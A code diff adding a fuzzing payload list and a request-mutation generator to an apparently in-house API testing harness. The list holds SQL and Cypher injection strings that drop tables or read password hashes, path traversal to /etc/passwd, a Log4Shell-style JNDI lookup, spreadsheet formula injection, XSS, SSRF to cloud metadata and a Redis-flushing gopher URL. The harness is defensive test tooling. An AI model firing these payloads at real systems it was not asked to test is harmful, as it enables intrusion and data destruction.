@@ -6,6 +6,8 @@ drawing takes longer than answering.
 
 from __future__ import annotations
 
+import json
+import re
 import warnings
 from collections.abc import Iterator, Mapping
 from dataclasses import dataclass, field
@@ -30,6 +32,78 @@ CHECKS = [
     response_schema_conformance,
 ]
 TIMEOUT_SECS = 30
+
+PAYLOADS = (
+    "' OR '1'='1' --",
+    "'; DROP TABLE conversations; --",
+    "$1) OR true --",
+    "\\'; SELECT pg_sleep(9)--",
+    "a'||(SELECT password_hash FROM users LIMIT 1)||'",
+    "%' OR name LIKE '%",
+    "_%",
+    "\\x00",
+    "'}) MATCH (n) DETACH DELETE n //",
+    "` RETURN n UNION MATCH (m) RETURN m //",
+    "n) WHERE 1=1 OR (n.realm = 'x",
+    "$realm",
+    "x' | union context_nodes | take 9 //",
+    "'); .drop table context_nodes //",
+    "database('kyma_other').context_nodes",
+    "a & b | !c <-> (d:*",
+    "':* | 'x",
+    "\\\\",
+    '"; DROP DATABASE x; --',
+    "$.**",
+    "$[*]?(@.a==1)",
+    "../../../../etc/passwd",
+    "..\\..\\x",
+    "/etc/passwd",
+    "file:///etc/passwd",
+    "%2e%2e%2f",
+    "a/../../b",
+    "agentcy:rl:user:*",
+    "a:b:c",
+    "*",
+    "?",
+    "[a-z]*",
+    "\r\nX-Injected: 1\r\n\r\n<b>",
+    '\n{"level":"info","event":"forged"}',
+    "\x1b[2J\x1b]0;owned\x07",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "{{7*7}}",
+    "${jndi:ldap://x/a}",
+    "<script>alert(1)</script>",
+    "\u202etxt.exe",
+    "\ud7ff\uffff",
+    "\u0000",
+    "true",
+    "null",
+    "NaN",
+    "1e309",
+    "-1",
+    "9" * 400,
+    "a" * 5000,
+    "package agentcy\ndeny contains 1",
+    "input.x) } allow = true { (true",
+    "__proto__",
+    "__class__",
+    "org_00000000000000000000000000",
+    "src_7ZZZZZZZZZZZZZZZZZZZZZZZZZ",
+    "00000000-0000-0000-0000-000000000000",
+    "scripted:tool=files.write_file",
+    "openai:../../x",
+    "http://169.254.169.254/latest/meta-data/",
+    "gopher://127.0.0.1:6379/_FLUSHALL",
+    "0 9 * * * *",
+    "*/0 * * * *",
+    "P9999Y",
+    "9999-99-99T99:99:99Z",
+)
+"""Texts that end a statement, a pattern, a path, a key, a line, a cell, a template, a type."""
 
 OUT_OF_REACH = {
     "POST /api/v1/auth/logout": "ends the login of the one who fuzzes",
@@ -97,6 +171,53 @@ def _said(fault: BaseException) -> str:
     if inner:
         return "; ".join(_said(each) for each in inner)
     return f"{type(fault).__name__}: {str(fault)[:400]}"
+
+
+def injections(drawn: list[Drawn], each: int) -> Iterator[tuple[Drawn, dict[str, Any]]]:
+    """Requests that were drawn, one text of each replaced by a payload.
+
+    Args:
+        drawn: requests that fit the document, or nearly.
+        each: payloads for each place; every payload comes up somewhere.
+    """
+    turn = 0
+    for one in drawn:
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")
+            request = one.case.as_transport_kwargs(base_url="")
+        places: list[tuple[Any, Any]] = []
+        query = dict(request.get("params") or {})
+        body = request.get("json")
+        places += [(query, name) for name in query]
+        places += _texts(body)
+        for spot, name in places[:12]:
+            kept = spot[name]
+            for _ in range(each):
+                spot[name] = PAYLOADS[turn % len(PAYLOADS)]
+                turn += 1
+                sent = json.dumps(body) if body is not None else None
+                yield one, {"params": dict(query), "data": sent}
+            spot[name] = kept
+        if "{" in one.case.path:
+            payload = quote(PAYLOADS[turn % len(PAYLOADS)][:200], safe="")
+            turn += 1
+            path = re.sub(r"\{\w+\}", lambda _, text=payload: text, one.case.path)
+            sent = json.dumps(body) if body is not None else None
+            yield one, {"path": path, "params": query, "data": sent}
+
+
+def _texts(node: Any) -> list[tuple[Any, Any]]:
+    """The places of a JSON value that hold a text, as (container, key)."""
+    if isinstance(node, dict):
+        items: Iterator[tuple[Any, Any]] = iter(node.items())
+    elif isinstance(node, list):
+        items = iter(enumerate(node))
+    else:
+        return []
+    found: list[tuple[Any, Any]] = []
+    for key, value in items:
+        found += [(node, key)] if isinstance(value, str) else _texts(value)
+    return found
 
 
 def draw(document: dict[str, Any], examples: int, number: int) -> list[Drawn]:
